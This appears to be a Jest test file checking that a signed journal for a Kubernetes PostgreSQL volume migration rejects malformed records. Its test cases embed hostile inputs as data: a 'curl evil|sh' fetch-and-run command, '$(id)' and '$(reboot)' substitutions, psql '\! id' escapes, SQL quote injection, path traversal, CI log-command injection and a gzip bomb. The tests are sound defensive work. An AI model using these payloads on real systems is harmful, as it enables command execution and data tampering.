import { gzipSync } from 'node:zlib';
import { describe, expect, test } from '@jest/globals';
import { Journal } from '../../../src/journal/journal.ts';
import type { Noted } from '../../../src/journal/notes.ts';
import type { JournalRecord } from '../../../src/journal/record.ts';
import { FakeCluster } from '../fake-cluster.ts';
import { namespace, persistentVolume, target } from '../objects.ts';
import { thrownBy } from '../thrown.ts';
import { recordOf } from './context.ts';
import { seal, sealedJournal, signed } from './sealed.ts';

const record = recordOf(await target());
const recordText = JSON.stringify(record);

function world(): FakeCluster {
  return new FakeCluster().put('persistentvolumes', persistentVolume());
}

async function refusal(cluster: FakeCluster) {
  cluster.calls.length = 0;
  const error = await thrownBy(() => Journal.find(cluster, namespace, seal, 'pv-1'));
  expect(cluster.writes).toEqual([]);
  return error;
}

const long = 'a'.repeat(2_000_000);
const changed = (more: object) => ({ record: JSON.stringify({ ...record, ...more }) });
const job = (more: object) => changed({ job: { ...record.job, ...more } });
const claim = {
  metadata: { name: record.claim, namespace, labels: {}, annotations: {} },
  spec: { volumeName: 'pv-2' },
};
const exchange = (more: object) => ({
  record: recordText,
  exchange: JSON.stringify({ claim, volume: 'pv-2', former: 'pv-1', ...more }),
});
const note = (name: string, value: string) => ({ record: recordText, [name]: value });
const bomb = gzipSync(Buffer.alloc(40 * 1024 ** 2)).toString('base64');

describe('a journal that is correctly signed is read by its grammar all the same', () => {
  test.each<[string, Record<string, string>]>([
    ['no record', {}],
    ['text for a record', { record: 'text' }],
    ['a record without fields', { record: '{}' }],
    ['nested deeply', { record: '['.repeat(100_000) }],
    ['another schema', changed({ schema: 3 })],
    ['a field too many', changed({ more: 1 })],
    ['a run that is no address', changed({ runId: 'run\n::error::' })],
    ['a time that is none', changed({ startedAt: 'today' })],
    ['an image with a command', changed({ image: 'x:12.1;curl evil|sh' })],
    ['an image that is endless', changed({ image: long })],
    ['an image to serve that is none', changed({ serving: { ...record.serving, reference: '$(id)' } })],
    ['a volume by a path', changed({ volume: '../secrets/postgresql' })],
    ['a claim by a path', changed({ claim: 'a/b' })],
    ['a StatefulSet by a path', changed({ statefulSet: 'postgresql?dryRun=All' })],
    ['replicas that make a second server', changed({ replicas: 2 })],
    ['a policy that there is not', changed({ reclaimPolicy: 'Shred' })],
    [
      'PostgreSQL among the applications',
      changed({ applications: [{ resource: 'statefulsets', name: record.statefulSet, replicas: 1, podSelector: {} }] }),
    ],
    ['a resource that is no workload', changed({ applications: [{ resource: 'secrets', name: 'x' }] })],
    ['an application by a path', changed({ applications: [{ resource: 'cronjobs', name: 'a/b', suspended: true }] })],
    ['a Job image that is none', job({ image: '-v' })],
    ['resources that are none', job({ resources: { limits: { cpu: '$(reboot)' } } })],
    ['more of resources', job({ resources: { claims: [{ name: 'x' }] } })],
    ['jobs that are text', job({ jobs: '1; id' })],
    ['a locale with a quote', job({ initdb: { ...record.job.initdb, collate: "C'; id" } })],
    ['a step that there is not', note('step', 'drop-everything')],
    ['a step of Object', note('undone', 'constructor')],
    ['a note that there is not', note('__proto__x', 'yes')],
    ['a time with SQL', note('downSince', "2026'")],
    ['a snapshot by a path', note('live', '../../default/volumesnapshots/x')],
    ['a backup with a space', note('backup', 'a b')],
    ['an outcome that there is not', note('outcome', 'won')],
    ['a sentence of two lines', note('back', 'a\n::set-output::')],
    ['a sentence with an escape', note('letIn', 'a\u001b[2J')],
    ['a sentence that is endless', note('rollback', long)],
    [
      'a position with SQL',
      note('released', JSON.stringify({ at: '2026-01-02T03:04:05.000Z', wal: "0/0'));\n\\! id" })),
    ],
    ['a mark by a path', note('mark', JSON.stringify({ snapshot: '../x', position: '0/1' }))],
    ['a mark with SQL', note('mark', JSON.stringify({ snapshot: 'x', position: "0/0'; \\! id" }))],
    ['a rehearsal by a command', note('rehearsal', JSON.stringify({ run: '$(id)', at: '2026-01-02T03:04:05Z' }))],
    ['a rehearsal at no time', note('rehearsal', JSON.stringify({ run: 'process 1', at: "2026'" }))],
    ['a release that is null', note('released', 'null')],
    ['a release that is no JSON', note('released', '{')],
    ['an exchange that is no JSON', note('exchange', 'x')],
    ['an exchange that is null', note('exchange', 'null')],
    ['an exchange of another claim', exchange({ claim: { ...claim, metadata: { ...claim.metadata, name: 'other' } } })],
    [
      'an exchange in another namespace',
      exchange({ claim: { ...claim, metadata: { ...claim.metadata, namespace: 'kube-system' } } }),
    ],
    [
      'an exchange with a data source',
      exchange({
        claim: { ...claim, spec: { ...claim.spec, dataSource: { kind: 'PersistentVolumeClaim', name: 'x' } } },
      }),
    ],
    ['an exchange whose claim names another volume', exchange({ volume: 'pv-3' })],
    ['an exchange of a volume with itself', exchange({ former: 'pv-2' })],
    ['sort orders that are a list', note('sortOrders', '[]')],
    ['sort orders with a NUL', note('sortOrders', JSON.stringify({ 'a\0b': [] }))],
    ['a measurement that is no gzip', note('measured', 'AAAA')],
    ['a measurement that is no base64', note('measured', '"; id')],
    ['a counter of 0', { ...note('step', 'quiesce'), counter: '0' }],
    ['a counter that is none', { ...note('step', 'quiesce'), counter: '1e3' }],
  ])('%s', async (_what, data) => {
    const cluster = world().put('configmaps', await signed(data));
    const start = performance.now();
    const error = await refusal(cluster);
    expect(error.code).toBe('journal-invalid');
    expect(error.message).not.toMatch(/\p{Cc}|evil|curl|\$\(|\\!/u);
    expect(error.remedy.text).toMatch(/\S/);
    expect(performance.now() - start).toBeLessThan(5000);
  });

  test('a measurement that unfolds without an end', async () => {
    const cluster = world().put('configmaps', await signed(note('measured', bomb)));
    expect((await refusal(cluster)).code).toBe('journal-invalid');
  });

  test('and one of a run is taken, with all that it may note', async () => {
    const at = new Date('2026-01-02T03:04:05Z');
    const noted: Noted = {
      ...{ step: 'activate', undone: 'quiesce', downSince: at, backup: null, live: 'a-live-1' },
      ...{ mark: { snapshot: 'a-live-1', position: '16/B374D848' }, cuts: 'late' },
      rehearsal: { run: 'process 1', at: '2026-01-02T03:04:05.000Z' },
      ...{ served: 'a-of-14-1', letIn: 'deployments/a at …', rollback: 'Asked.', back: 'Failed.', validated: true },
      ...{ exchange: { claim, volume: 'pv-2', former: 'pv-1' }, outcome: 'reverted' },
      measured: {
        databases: {
          'my "db"': {
            relations: { "public.it's": '42 rows' },
            extensions: ['plpgsql'],
            files: { "public.it's": 'base/16384/17000 base/16384/17003' },
          },
        },
      },
      released: { at, wal: '16/B374D848' },
      sortOrders: { circle: [] },
    };
    const cluster = world().put('configmaps', await sealedJournal(record, noted));
    expect((await Journal.find(cluster, namespace, seal, 'pv-1'))?.noted).toEqual(noted);
  });

  test('what others said is noted in one line', async () => {
    const cluster = world();
    const journal = await Journal.begin(cluster, namespace, seal, record);
    await journal.note('back', `no\nroom\u001b[0m ${long}`);
    expect(journal.noted.back).toMatch(/^no room \[0m a+ …$/);
    expect((await Journal.find(cluster, namespace, seal, 'pv-1'))?.noted.back).toBe(journal.noted.back);
  });

  test('what no other run could read is not begun with', async () => {
    const cluster = world();
    const odd: JournalRecord = { ...record, image: 'x y' };
    const error = await thrownBy(() => Journal.begin(cluster, namespace, seal, odd));
    expect(error.code).toBe('journal-unwritable');
    expect(cluster.writes).toEqual([]);
  });
});
